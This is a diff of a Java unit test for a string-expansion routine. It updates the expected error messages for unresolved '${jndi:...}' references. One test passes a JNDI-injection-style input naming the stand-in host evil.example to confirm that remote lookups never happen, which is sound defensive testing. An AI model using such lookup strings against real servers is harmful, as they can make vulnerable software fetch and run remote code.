@@ -32,7 +32,7 @@ class ReferencesTest {
       assertThat(references.expand("${jndi:java:comp/env/number:5}")).isEqualTo("17");
       assertThat(references.expand("${jndi:java:comp/env/none:5}")).isEqualTo("5");
       assertThatThrownBy(() -> references.expand("${jndi:java:comp/env/none}"))
-          .hasMessageContaining("${jndi:java:comp/env/none}, which leads nowhere");
+          .hasMessageContaining("${jndi:java:comp/env/none} has no value");
       assertThat(naming.constructed()).hasSize(4);
     }
   }
@@ -41,7 +41,8 @@ class ReferencesTest {
   void namesElsewhereAreNeverLookedUp() throws Exception {
     try (MockedConstruction<InitialContext> naming = mockConstruction(InitialContext.class)) {
       assertThat(references.expand("${jndi:ldap//evil.example/x:d}")).isEqualTo("d");
-      assertThatThrownBy(() -> references.expand("${jndi:rmi}")).hasMessageContaining("nowhere");
+      assertThatThrownBy(() -> references.expand("${jndi:rmi}"))
+          .hasMessageContaining("has no value");
       assertThat(naming.constructed()).isEmpty();
     }
   }
